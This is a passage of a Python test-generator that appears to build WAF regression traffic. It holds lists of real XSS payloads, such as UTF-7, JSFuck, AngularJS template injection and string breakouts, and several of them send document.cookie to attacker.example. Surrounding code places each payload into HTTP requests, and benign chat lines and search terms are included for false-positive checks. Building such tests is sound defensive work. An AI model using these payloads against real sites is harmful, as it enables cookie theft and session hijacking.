    # 941260 IE XSS Filters (meta charset)
    "xss-ie-meta-charset": [
        "<meta charset=\"UTF-7\">",
        "<META CHARSET=x-imap4-modified-utf7>",
        "<meta/charset=utf-7>",
        "<meta content=\"text/html\" charset=\"ISO-2022-JP\">",
        "<meta charset = \"x-mac-farsi\">",
        "</title><meta charset=utf-16be>",
    ],
    # 941270 IE XSS Filters (link href)
    "xss-ie-link-href": [
        "<link rel=stylesheet href=//attacker.example/x.css>",
        "<LINK REL=\"import\" HREF=\"//attacker.example/x.html\">",
        "<link/href=//attacker.example/x.css rel=stylesheet>",
        "<link rel=\"preload\" as=\"script\" href=\"//attacker.example/x.js\">",
        "<link rel=icon href=\"javascript:alert(1)\">",
        "</style><link rel=stylesheet href = \"data:text/css,*{x:expression(alert(1))}\">",
    ],
    # 941280 IE XSS Filters (base href)
    "xss-ie-base-href": [
        "<base href=\"//attacker.example/\">",
        "<BASE HREF=\"javascript:alert(1)//\">",
        "<base/href=//attacker.example/>",
        "<base target=_top href=https://attacker.example/>",
        "</head><base href = 'http://attacker.example'>",
        "<base+href=//x.example/>",
    ],
    # 941290 IE XSS Filters (applet)
    "xss-ie-applet-tag": [
        "<applet code=\"Evil.class\" codebase=\"//attacker.example/\"></applet>",
        "<APPLET>",
        "<applet/code=x.class>",
        "<applet archive=//attacker.example/x.jar code=X>",
        "<applet+code=A>",
        "Nice!<applet code=javascript:alert(1)></applet>",
    ],
    # 941300 IE XSS Filters (object)
    "xss-ie-object-tag": [
        "<object data=\"//attacker.example/x.swf\"></object>",
        "<OBJECT CLASSID=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\">"
        "<PARAM NAME=\"DataURL\" VALUE=\"javascript:alert(1)\"></OBJECT>",
        "<object type=\"text/x-scriptlet\" data=\"//attacker.example/x.sct\"></object>",
        "<object codetype=\"application/java\" code=\"X.class\">",
        "<object/data=javascript:alert(1)>",
        "<object data=\"data:text/html,<script>alert(1)</script>\">",
    ],
    # 941310 US-ASCII Malformed Encoding XSS Filter
    "xss-us-ascii-malformed": [
        "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
        ("%BCscript%BEalert(%A2XSS%A2)%BC/script%BE", "url"),
        "comment \u00bcimg src=x onerror=alert(1)\u00be",
        "\u00bc/title\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        ("x%BC/textarea%BE%BCscript%BEalert(1)%BC/script%BE", "url"),
        "<script\u00bealert(1)</script\u00be",
    ],
    # 941350 UTF-7 Encoding IE XSS
    "xss-utf7": [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-img src=x onerror=alert(1)+AD4-",
        "+ACIAPgA8-script+AD4-alert(document.cookie)+ADw-/script+AD4-",
        ("%2BADw-script%2BAD4-alert(1)%2BADw-%2Fscript%2BAD4-", "url"),
        "+ADw-svg onload+AD0-alert(1)+AD4-",
        "x+ADw-/title+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ],
    # 941360 JSFuck / Hieroglyphy obfuscation
    "xss-jsfuck": [
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        "(![]+[])[+[]]+(![]+[])[!+[]+!+[]]",
        "[][(!![]+[])[!+[]+!+[]+!+[]]+([][[]]+[])[+!+[]]]",
        "+!+[]+!+[]",
        "([][+[]]+[])[!+[]+!![]]",
        "x=(!![]+[])[+!+[]]+(![]+[])[+[]];",
        ("%5B%5D%5B(!%5B%5D%2B%5B%5D)%5B%2B%5B%5D%5D%5D", "url"),
    ],
    # 941370 JavaScript global variable found
    "xss-js-global-variable": [
        "self['al'+'ert'](1)",
        "window[\"alert\"](document.domain)",
        "top['al\\x65rt'](1)",
        "this['ev'+'al']('alert(1)')",
        "globalThis[`alert`](1)",
        "parent [ 'alert' ] (1)",
        "frames['location']='//attacker.example'",
        "document['cookie']",
    ],
    # 941101 XSS Attack Detected via libinjection (PL2: the Referer and the file name)
    "xss-libinjection-pl2": [
        "https://www.google.com/search?q=<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        "\"><img src=x onerror=prompt(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<body onpageshow=alert(1)>",
        "'><script src=//attacker.example/x.js></script>",
    ],
    # 941150 XSS Filter - Category 5: Disallowed HTML Attributes
    "xss-disallowed-attributes": [
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Click to continue</p>",
        "<img src=//attacker.example/pixel.gif?u=1>",
        "<a href=//attacker.example>Click here to verify your account</a>",
        "<div STYLE=\"background-image: url(//attacker.example/x.png)\">",
        "<iframe src = \"//attacker.example\">",
        "<span style=color:red>FREE MONEY</span>",
        "<svg><image href=//attacker.example/x.svg></svg>",
    ],
    # 941320 Possible XSS Attack Detected - HTML Tag Handler
    "xss-html-tag-handler": [
        "Nice product!<h1 style=color:red>SITE HACKED</h1>",
        "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<bgsound src=\"//attacker.example/x.wav\">",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<frameset onload=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<plaintext>",
    ],
    # 941330 IE XSS Filters (string breakout to location, name, onerror, valueOf)
    "xss-ie-string-breakout-location": [
        "x\";location='//attacker.example/?'+document.cookie;//",
        "';name='alert(1)';eval(name);//",
        "\";onerror=alert;throw 1;//",
        "';valueOf=alert;//",
        "jdoe'; window.location = 'https://attacker.example' //",
        "x';\\u006cocation='//attacker.example'//",
    ],
    # 941340 IE XSS Filters (string breakout to a property assignment)
    "xss-ie-string-breakout-property": [
        "\";document.body.innerHTML='<h1>x</h1>';//",
        "';top.location.href='//attacker.example';//",
        "\"+(document.title='pwned')+\"",
        "'); img.src='//attacker.example/?c='+document.cookie;//",
        "search\" ;x.y=1//",
        "'-(document.domain=location.host)-'",
        "\")};self.x=1;{//",
    ],
    # 941380 AngularJS client side template injection detected
    "xss-angularjs-csti": [
        "{{constructor.constructor('alert(1)')()}}",
        "John {{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
        "{{7*7}}",
        "{{[].pop.constructor('alert(document.cookie)')()}}",
        "{{ $eval.constructor('alert(1)')() }}",
        ("%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D", "url"),
        "<div ng-app ng-csp>{{$event.view.alert(1)}}</div>",
    ],
    # 4.x: Javascript method detected
    "xss-javascript-method": [
        "x');eval(atob('YWxlcnQoMSk='));//",
        "setTimeout('alert(1)',0)",
        "setInterval(\"fetch('//attacker.example')\",1000)",
        "new Function('alert(1)')()",
        "confirm(document.domain)",
        "prompt(1)",
        "fetch('//attacker.example/?c='+document.cookie)",
        "import('//attacker.example/x.js')",
    ],
    # 4.x: XSS JavaScript function without parentheses
    "xss-js-function-without-parentheses": [
        "<img src=x onerror=alert`1`>",
        "onerror=alert;throw 1",
        "[1].find(alert)",
        "<svg onload=setTimeout`alert\\x281\\x29`>",
        "window.onerror=eval;throw'=alert\\x281\\x29'",
        "{onerror=alert}throw document.domain",
        "top['al'+'ert']`1`",
    ],
}

FAMILIES: dict[str, dict[str, list[Payload]]] = {"sqli": SQLI, "xss": XSS}

# ---------------------------------------------------------------------------------------------------------------
# Where a payload goes. Our real routes (placements without a prefix) and a regression suite's ("rs-").
REAL = ["query", "json", "form", "cookie", "header:User-Agent", "query", "path", "json", "header:Referer", "form",
        "xml", "multipart-field", "param-name", "header:X-Forwarded-For", "multipart-filename"]
RS = ["rs-query", "rs-form", "rs-json", "rs-header:User-Agent", "rs-xml", "rs-query", "rs-raw-body", "rs-cookie",
      "rs-header:Referer", "rs-form", "rs-header:X-Custom", "rs-json"]
# 941101 looks at the Referer and the file name: its tests go there
OVERRIDE = {"xss-libinjection-pl2": (["header:Referer", "path"], ["rs-header:Referer", "rs-query"])}

HEADER_PLACES = {"header:User-Agent", "header:Referer", "header:X-Forwarded-For", "multipart-filename"}
URL_PLACES = {"query", "form", "cookie", "path", "param-name", "header:Referer", "raw-body"}

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
    "Safari/537.36 Edg/131.0.0.0",
]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "en-GB,en;q=0.9", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7"]
PAGES = ["https://app.example.com/admin/users", "https://app.example.com/search", "https://app.example.com/",
         "https://app.example.com/settings/profile", "https://app.example.com/reports?range=30d"]
RS_GET = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST = ["/post", "/", "/index.php", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_UAS = ["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1"]
QUERY_NAMES = ["q", "search", "email", "name", "sort", "id", "filter", "category"]
JSON_FIELDS = ["bio", "title", "department", "company", "nickname"]
COOKIE_NAMES = ["last_search", "prefs", "recently_viewed", "tz"]
LEADS = ["Loving the new dashboard! ", "Hi team, ", "Order #4412 arrived damaged. ", "Senior engineer @ Acme. "]
MARK = "@@PAYLOAD@@"


def _tok(*parts: object) -> str:
    """A deterministic token (hex) for one request: session cookies, CSRF tokens, boundaries."""
    return hashlib.sha256("|".join(str(p) for p in (NAME, *parts)).encode()).hexdigest()


def browser_headers(k: int, accept: str = "application/json", navigate: bool = False) -> dict[str, str]:
    """The headers a current browser sends with the k-th request (an XHR, or a page navigation)."""
    h = {"User-Agent": BROWSER_UAS[k % len(BROWSER_UAS)], "Accept": accept,
         "Accept-Language": LANGS[k % len(LANGS)], "Accept-Encoding": "gzip, deflate, br, zstd",
         "Referer": PAGES[k % len(PAGES)]}
    if navigate:
        h.update({"Origin": "https://app.example.com", "Sec-Fetch-Dest": "document", "Sec-Fetch-Mode": "navigate",
                  "Sec-Fetch-Site": "same-origin", "Sec-Fetch-User": "?1", "Upgrade-Insecure-Requests": "1"})
    else:
        h.update({"Sec-Fetch-Dest": "empty", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Site": "same-origin"})
    h["Cookie"] = f"session={_tok('session', k)[:40]}; cookie_consent=accepted; theme=light"
    return h


def _qenc(p: str, enc: str | None, plus: bool = False) -> str:
    """The value in a query string or form body: as given when pre-encoded, else percent-encoded."""
    if enc in ("url", "qs"):
        return p
    return urllib.parse.quote_plus(p, safe="") if plus else urllib.parse.quote(p, safe="")


def _json_lit(p: str, enc: str | None) -> str:
    """The value as a JSON string literal; with "json-u", every non-alphanumeric as a \\uXXXX escape."""
    if enc == "json-u":
        return '"' + "".join(c if c.isalnum() or c == " " else f"\\u{ord(c):04x}" for c in p) + '"'
    return json.dumps(p, ensure_ascii=False)


def _json_body(doc: Any, p: str, enc: str | None) -> str:
    return json.dumps(doc, ensure_ascii=False).replace(json.dumps(MARK), _json_lit(p, enc))


def _xml_text(p: str, cdata: bool) -> str:
    if cdata and "]]>" not in p:
        return f"<![CDATA[{p}]]>"
    return p.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _lead(p: str, k: int) -> str:
    """Free text before markup, as it sits in a bio or a comment."""
    return LEADS[k % len(LEADS)] + p if p.startswith(("<", "{{", "+ADw")) else p


def fits(place: str, p: str, enc: str | None) -> bool:
    """Whether a payload can go to a place: pre-encoded ones only where a server decodes them, JSON-only ones only
    into JSON, and nothing with a line break or a quote where a header or a file name cannot carry it."""
    base = place.removeprefix("rs-")
    if enc in ("json-u", "jsondoc"):
        return base == "json"
    if enc == "qs":
        return base in ("query", "form")
    if enc == "url":
        return base in URL_PLACES
    if "\n" in p and (base.startswith("header:") or base in HEADER_PLACES or base == "cookie" and place != "cookie"):
        return False
    return not (base == "multipart-filename" and '"' in p)


def _multipart(k: int, parts: list[tuple[str, str | None, str]]) -> tuple[str, str]:
    """A multipart/form-data body of (name, filename or None, content) parts; (content type, body)."""
    boundary = "----WebKitFormBoundary" + _tok("boundary", k)[:16]
    out = []
    for name, filename, content in parts:
        disp = f'Content-Disposition: form-data; name="{name}"'
        if filename is not None:
            disp += f'; filename="{filename}"\r\nContent-Type: image/png'
        out.append(f"--{boundary}\r\n{disp}\r\n\r\n{content}\r\n")
    return f"multipart/form-data; boundary={boundary}", "".join(out) + f"--{boundary}--\r\n"


def real_request(place: str, p: str, enc: str | None, k: int) -> dict[str, Any]:
    """The payload at one of our real routes, as a browser or an attacker's client sends it there."""
    h = browser_headers(k)
    if place == "query":
        params = [(QUERY_NAMES[k % len(QUERY_NAMES)], None), ("page", str(k % 5 + 1)),
                  ("per_page", ["20", "50", "100"][k % 3])]
        params = params[k % 3:] + params[:k % 3]
        if enc == "qs":
            qs = "&".join(x for x in [p if v is None else f"{n}={v}" for n, v in params])
        else:
            qs = "&".join(f"{n}={_qenc(p, enc, plus=k % 2 == 0) if v is None else v}" for n, v in params)
        return {"method": "GET", "uri": "/api/users?" + qs, "body": "", "headers": h}
    if place == "form":
        h = browser_headers(k, "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", navigate=True)
        h["Content-Type"] = "application/x-www-form-urlencoded"
        csrf = "csrf_token=" + _tok("csrf", k)[:43]
        if enc == "qs":
            return {"method": "POST", "uri": "/admin/users/search", "body": f"{csrf}&{p}", "headers": h}
        if k % 8 == 7:
            body = f"{csrf}&display_name={_qenc(p, enc, plus=True)}&timezone=Europe%2FBerlin"
            return {"method": "POST", "uri": "/me/settings", "body": body, "headers": h}
        if k % 5 == 4 and enc is None:
            row = "1042," + '"' + p.replace('"', '""') + '"' + ",sean.obrien@example.org"
            body = f"{csrf}&format=csv&row={_qenc(row, None, plus=True)}"
            return {"method": "POST", "uri": "/admin/users/search", "body": body, "headers": h}
        body = f"{csrf}&q={_qenc(p, enc, plus=True)}&sort=name"
        return {"method": "POST", "uri": "/admin/users/search", "body": body, "headers": h}
    if place == "json":
        h["Content-Type"] = "application/json"
        h["Origin"] = "https://app.example.com"
        method, uri = ("PATCH", "/api/users/42") if k % 8 == 7 else ("POST", "/api/users")
        if enc == "jsondoc":
            return {"method": method, "uri": "/api/users/login" if method == "POST" else uri, "body": p, "headers": h}
        shape = 0 if enc == "json-u" else k % 4
        field = JSON_FIELDS[k % len(JSON_FIELDS)]
        doc: Any
        if shape == 0:
            doc = {"name": "Ann Lee", "email": "ann.lee@example.org", field: MARK}
            if field == "bio" and enc is None:
                p = _lead(p, k)
        elif shape == 1:
            doc = {"name": "Ann Lee", "tags": ["customer", "emea", MARK], "active": True}
        elif shape == 2:
            doc = {"filter": {"field": "last_name", "op": "contains", "value": MARK}, "page": 1, "per_page": 50}
        else:
            row = "id,name,email\n1042," + '"' + p.replace('"', '""') + '"' + ",sean.obrien@example.org"
            doc = {"import": {"format": "csv", "header": True, "rows": MARK}}
            p = row
        return {"method": method, "uri": uri, "body": _json_body(doc, p, enc), "headers": h}
    if place == "cookie":
        raw = k % 2 == 1 and enc is None and not any(c in p for c in ";\n")
        value = p if raw else (p if enc == "url" else urllib.parse.quote(p, safe=""))
        h["Cookie"] = f"session={_tok('session', k)[:40]}; cookie_consent=accepted; " \
                      f"{COOKIE_NAMES[k % len(COOKIE_NAMES)]}={value}"
        return {"method": "GET", "uri": "/api/users?page=1", "body": "", "headers": h}
    if place == "header:User-Agent":
        h["User-Agent"] = p if k % 2 == 0 else "Mozilla/5.0 (Windows NT 10.0; Win64; x64) " + p
        return {"method": "GET", "uri": "/api/users?page=1&per_page=20", "body": "", "headers": h}
    if place == "header:Referer":
        if enc == "url":
            ref = "https://app.example.com/search?q=" + p
        elif p.startswith("http"):
            ref = p
        else:
            ref = "https://app.example.com/search?q=" + (p if k % 2 == 0 else urllib.parse.quote_plus(p, safe=""))
        h["Referer"] = ref
        return {"method": "GET", "uri": "/api/users?page=2", "body": "", "headers": h}
    if place == "header:X-Forwarded-For":
        h["X-Forwarded-For"] = p if k % 2 == 0 else "203.0.113.7, " + p
        return {"method": "GET", "uri": "/api/users/42", "body": "", "headers": h}
    if place == "param-name":
        name = p if enc == "url" else urllib.parse.quote(p, safe="")
        return {"method": "GET", "uri": f"/api/users?{name}=1&page=1", "body": "", "headers": h}
    if place == "xml":
        h["Content-Type"] = "application/xml"
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<user><name>Ann Lee</name>'
                f"<email>ann.lee@example.org</email><bio>{_xml_text(_lead(p, k), k % 2 == 0)}</bio></user>")
        return {"method": "POST", "uri": "/api/users", "body": body, "headers": h}
    if place == "multipart-field":
        ctype, body = _multipart(k, [("name", None, "Ann Lee"), ("bio", None, _lead(p, k))])
        h["Content-Type"] = ctype
        return {"method": "POST", "uri": "/api/users", "body": body, "headers": h}
    if place == "multipart-filename":
        ctype, body = _multipart(k, [("csrf_token", None, _tok("csrf", k)[:43]), ("avatar", p, "PNG image data")])
        h["Content-Type"] = ctype
        return {"method": "POST", "uri": "/api/users/42/avatar", "body": body, "headers": h}
    # path
    seg = p if enc == "url" else urllib.parse.quote(p, safe="!$&'()*+,;=:@")
    return {"method": "GET", "uri": ("/api/users/" if k % 10 else "/api/") + seg, "body": "", "headers": h}


def rs_request(place: str, p: str, enc: str | None, k: int) -> dict[str, Any]:
    """The payload the way a WAF regression suite sends it: any path, any parameter name."""
    h = {"User-Agent": RS_UAS[k % len(RS_UAS)], "Accept": "*/*"}
    name = RS_NAMES[k % len(RS_NAMES)]
    get_path, post_path = RS_GET[k % len(RS_GET)], RS_POST[k % len(RS_POST)]
    base = place.removeprefix("rs-")
    if base == "query":
        qs = p if enc == "qs" else f"{name}={_qenc(p, enc)}"
        return {"method": "GET", "uri": f"{get_path}?{qs}", "body": "", "headers": h}
    if base == "form":
        h["Content-Type"] = "application/x-www-form-urlencoded"
        body = p if enc == "qs" else f"{name}={_qenc(p, enc, plus=True)}"
        return {"method": "POST", "uri": post_path, "body": body, "headers": h}
    if base == "json":
        h["Content-Type"] = "application/json"
        if enc == "jsondoc":
            return {"method": "POST", "uri": post_path, "body": p, "headers": h}
        doc: Any = [{name: MARK}, {"data": {name: MARK}}, {name: [MARK]}][k % 3] if enc is None else {name: MARK}
        return {"method": "POST", "uri": post_path, "body": _json_body(doc, p, enc), "headers": h}
    if base == "xml":
        h["Content-Type"] = "text/xml"
        body = f'<?xml version="1.0"?><root><{name}>{_xml_text(p, k % 2 == 1)}</{name}></root>'
        return {"method": "POST", "uri": post_path, "body": body, "headers": h}
    if base == "raw-body":
        h["Content-Type"] = "application/x-www-form-urlencoded"
        return {"method": "POST", "uri": post_path, "body": p, "headers": h}
    if base == "cookie":
        value = p if enc == "url" or not any(c in p for c in ";\n") else urllib.parse.quote(p, safe="")
        h["Cookie"] = f"{name}={value}"
        return {"method": "GET", "uri": get_path, "body": "", "headers": h}
    header = {"header:User-Agent": "User-Agent", "header:Referer": "Referer"}.get(base, "X-Custom-Header")
    h[header] = p
    return {"method": "GET", "uri": get_path, "body": "", "headers": h}


def _pick(choices: list[str], start: int, p: str, enc: str | None) -> tuple[str, int]:
    """The first place of `choices` from `start` on (rotating) that fits the payload; (place, next start)."""
    for step in range(len(choices)):
        place = choices[(start + step) % len(choices)]
        if fits(place, p, enc):
            return place, start + step + 1
    raise ValueError(f"no place fits {p!r}")


def attacks() -> Iterator[dict[str, Any]]:
    """Every payload twice: once at one of our real routes, once the regression-suite way."""
    real_at = rs_at = 0
    j = 0   # the payload's index over the whole set: it varies names, shapes and encodings of its two requests
    for category, subs in FAMILIES.items():
        n = 0
        for sub, payloads in subs.items():
            real_places, rs_places = OVERRIDE.get(sub, (REAL, RS))
            for i, entry in enumerate(payloads):
                p, enc = (entry, None) if isinstance(entry, str) else entry
                if sub in OVERRIDE:
                    real, _ = _pick(real_places, i, p, enc)
                    rs, _ = _pick(rs_places, i, p, enc)
                else:
                    real, real_at = _pick(real_places, real_at, p, enc)
                    rs, rs_at = _pick(rs_places, rs_at, p, enc)
                for place, req in ((real, real_request(real, p, enc, j)), (rs, rs_request(rs, p, enc, j))):
                    n += 1
                    yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                           "placement": place, "payload": p}
                j += 1


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by real users at our real routes.
SLACK_TEXTS = [
    "can someone review my PR? it adds an ORDER BY created_at to the export query",
    "union meeting moved to Thursday 3pm, room 4B",
    "pls don't drop the staging tables before Friday, QA still needs them",
    "select the 'Annual' plan from the dropdown and the discount applies automatically",
    "my sleep tracker says I got 5 hours lol",
    "benchmark results are in: p99 went from 120ms to 85ms after the index change",
    "the script for the onboarding video is in the drive, feedback welcome",
    "alert: disk usage on db-02 at 85%, I'm on it",
    "where do I find the document about our cookie consent banner?",
    "window cleaners are coming tomorrow at 8, close the blinds",
    "moving to a new location next month, will update my address in Workday",
    "anyone know how to import the CSV into the CRM without duplicating contacts?",
    "charset issue again: the export comes out as latin1 instead of utf-8",
    "the meta description for the landing page needs to be under 160 chars",
    "we should embed the Loom video in the help center article",
    "link to the deck is in the channel topic",
    "base salary bands were updated, ask your manager",
    "style guide says sentence case for buttons, not Title Case",
    "the object storage bill doubled this month, investigating",
    "I'll execute the migration right after standup",
    "1:1s with my reports are on Tuesdays and Thursdays",
    "I <3 the new dark mode",
    "x > 5 and y < 10 is the rule for the discount tier, per finance",
    "the `users` table has a `deleted_at` column now, filter on it",
    "select count(*) returns 42 in prod but 40 in staging, weird",
    "hover over the chart to see the tooltip with exact numbers",
    "on error the uploader retries 3 times, then gives up",
    "on load the page fetches the profile, then the feed",
    "the AngularJS app is finally retired, everything is React now",
    "the {{first_name}} placeholder didn't get replaced in yesterday's email",
    "the sleep(2) in the retry loop is intentional, please don't remove it",
    "the where clause is missing an index on tenant_id",
    "we merge to main only after two approvals",
    "having lunch at the taco place, anyone want to join?",
    "exec summary is ready for review, link in thread",
    "matching against the old customer list found 14 duplicates",
    "the shutdown of the old VPN is on the 30th, switch to the new client",
    "flight delay again, I'll join the call from the airport",
    "our Mongo cluster upgrade is scheduled for Saturday night",
    "the procedure for expense reports changed, see the HR wiki",
    "please update the function name in the docs too",
    "declare your dietary restrictions in the offsite form by Friday",
    "insert a page break before the appendix so it prints nicely",
    "delete the old recurring standup from your calendar, new invite coming",
    "update: the vendor confirmed delivery for Monday",
    "truncate the summary to 200 characters for the preview card",
    "the hex color for the new brand blue is #1a73e8",
    "use backticks around code in markdown, like `npm test`",
    "#general is for announcements only please, chat in #random",
    "he said 'no' and then 'maybe', so we're waiting",
    "the O'Reilly subscription renews in May, who still uses it?",
    "window seat or aisle for the offsite flight?",
    "self-review deadline is Friday, manager reviews the week after",
    "this document is the source of truth for Q3 goals",
    "parent-teacher conference at 5, offline after that",
    "javascript fatigue is real, another framework this week",
    "the xmlns attribute is required in the SVG sprite or Safari ignores it",
    "vbscript macros are blocked by policy on all laptops",
    "utf-7 is long dead, use utf-8 everywhere",
    "new Function() is banned by our CSP anyway, so the lint rule is redundant",
    "prompt engineering workshop next week, sign up in the sheet",
    "confirm your attendance for the party by Friday",
    "fetch the latest changes before you rebase, main moved a lot",
    "eval period for the new hire ends in March",
    "the marquee at the cinema said sold out, we'll go Sunday",
    "the old Java applet on the intranet finally got removed",
    "the textarea in the feedback form should allow 2000 chars",
    "the base URL for staging is https://staging.example.com",
    "the constructor of that class takes an options object, see the README",
    "throw the old monitors in the e-waste bin on floor 2",
    "alert fatigue: we muted the noisy disk alerts until Monday",
    "the top 3 customers by revenue are in the board deck",
    "if you're in Berlin next week, drinks on Thursday?",
    "frame the question as 'what would make this easier?' in the survey",
    "my kid's school play is tonight, leaving at 4",
    "the link preview shows the wrong image, cache issue?",
    "sounds like a plan, let's do 10:30",
    "between you and me, the new coffee machine is a big upgrade",
    "don't forget to log your hours before month end",
    "the iframe embed for the status page works in Notion now",
    "who owns the cron job that sends the weekly digest?",
    "the report is 50% done, the rest by EOD",
    "set the timeout to 30s, the default 5s is too short for exports",
]
SEARCH_TERMS = [
    "O'Brien", "Sean O'Connor", "D'Angelo", "McDonald's", "Rock 'n' Roll", "Union Station", "Grand Union Canal",
    "select comfort", "drop-off point", "sleep mask", "Benchmark Capital", "script supervisor", "order by phone",
    "from Berlin to Paris", "table lamp", "delete my account", "update billing address", "insert molding",
    "Johnson & Johnson", "AT&T", "R&D team", "C++ developer", "C# developer", ".NET", "node.js", "vue.js",
    "\"exact phrase\"", "5' 10\"", "10% off", "50/50", "#hashtag", "@mention", "user 42", "id:1234",
    "email:ann@example.org", "status:active", "price < 100", "javascript developer", "document scanner",
    "cookie jar", "window blinds", "location services", "medical alert bracelet", "import tax", "meta quest 3",
    "embedded systems engineer", "link building", "base camp", "style guide", "frame shop", "object storage",
    "marquee tent", "angular developer", "it's", "don't", "can't stop", "'quoted'", "Dropbox", "Sleep Number",
    "executive assistant", "match day tickets", "merge conflicts", "shutdown schedule", "goto conference",
    "having fun", "Between the Lines", "like new", "regex tester", "sounds like", "xor gate", "char broil grill",
    "hex key set", "Oracle DBA", "MySQL workbench", "Postgres", "SQL Server 2019", "union jack", "1=1 coaching",
    "Rick & Morty", "Ben & Jerry's", "Mary-Kate", "Smith, John", "Anne-Marie O'Neil", "Zoë Šimková", "Jürgen Müller",
    "Renée", "José García", "Nguyễn Văn An", "山田太郎", "محمد", "Ørsted", "+1 (555) 010-2030", "2024-03-15",
    "Q3 revenue", "version 2.1.0", "select all", "having trouble logging in", "password reset", "sleep apnea",
    "waitress", "declare income", "execute order", "procedure manual", "alter ego", "truncate text",
    "create account", "insert coin", "exec chair", "script font", "alert dialog", "onload event", "confirm email",
]
PROFILES = [
    {"name": "Seán O'Brien", "title": "Head of Sales", "department": "Sales", "city": "Dublin"},
    {"name": "Chloé D'Arcy", "title": "Product Designer", "department": "Design", "city": "Lyon"},
    {"name": "Union Pacific liaison", "title": "Account Manager", "department": "Partnerships", "city": "Omaha"},
    {"name": "Select Medical contact", "title": "Buyer", "department": "Procurement", "city": "Harrisburg"},
    {"name": "Drew Table", "title": "Database Administrator", "department": "Platform", "city": "Leeds"},
    {"name": "Delia Update", "title": "Office Manager", "department": "Operations", "city": "Austin"},
    {"name": "Mr. Order", "title": "Warehouse Lead", "department": "Logistics", "city": "Rotterdam"},
    {"name": "Jean-Luc Script", "title": "Copywriter", "department": "Marketing", "city": "Montréal"},
    {"name": "Alert Ng", "title": "SRE", "department": "Infrastructure", "city": "Singapore"},
    {"name": "Paige Link", "title": "SEO Specialist", "department": "Growth", "city": "Denver"},
    {"name": "Base Nakamura", "title": "Engineer", "department": "Mobile", "city": "Osaka"},
    {"name": "Frank Frame", "title": "Carpenter", "department": "Facilities", "city": "Portland"},
    {"name": "Ann Lee", "title": "VP, R&D", "department": "R&D", "city": "Boston"},
    {"name": "Ravi Shankar", "title": "Staff Engineer (Data)", "department": "Data & Analytics", "city": "Pune"},
    {"name": "Marie-Claire Dubois", "title": "Legal Counsel", "department": "Legal", "city": "Paris"},
    {"name": "Tom O'Neill-Smith", "title": "CFO", "department": "Finance", "city": "London"},
    {"name": "Zoë Šimková", "title": "QA Lead", "department": "Quality", "city": "Brno"},
    {"name": "Kwame Mensah", "title": "Support Agent, Tier 2", "department": "Customer Success", "city": "Accra"},
    {"name": "Li Wei", "title": "Sleep Researcher", "department": "Science", "city": "Shanghai"},
    {"name": "Eva Benchmark", "title": "Performance Engineer", "department": "Platform", "city": "Tallinn"},
]
BIO_TEXTS = [
    "I select the best beans from small farms and roast them myself.",
    "Former union organizer, now product manager. Opinions are my own.",
    "Drop me a line if you want to talk about distributed systems.",
    "Sleep, code, repeat. Father of two, owner of one very loud cat.",
    "Writing SQL since 2009; still think ORDER BY is the most underrated clause.",
    "Script writer for indie games, occasional voice actor.",
    "I <3 open source, mechanical keyboards and long walks.",
    "Based in Köln; happy to help with anything Postgres or Kafka.",
    "Ask me about JavaScript, TypeScript and the occasional Rust.",
    "Runner, reader, recovering perfectionist. 5k PB: 21'30\".",
    "Building the data platform: dbt, Airflow, and too many Jupyter notebooks.",
    "Tea > coffee. Tabs > spaces. Fight me (politely).",
    "Once wrote a 'Hello, World' in 12 languages for a bet.",
    "I help teams execute on their roadmap without burning out.",
    "Amateur astronomer; the Andromeda galaxy is 2.5 million light years away.",
    "If it's broken, I'll fix it; if it isn't, I'll document it.",
    "Member of the alumni union, volunteer at the local food bank.",
    "Focus areas: alerting, on-call health and incident reviews.",
    "Formerly at Oracle, then a startup, now here.",
    "Love a good spreadsheet; =SUM(A1:A10) is my love language.",
    "Sometimes I write about CSS: flexbox, grid and the cascade.",
    "Fluent in English, Deutsch and a bit of 日本語.",
    "Weekend project: a home-made weather station with a Raspberry Pi.",
    "Coach for the under-12s football team on Saturdays.",
]
PUBLIC_URLS = [
    "https://www.linkedin.com/in/ann-lee-42/",
    "https://github.com/annlee/dotfiles",
    "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
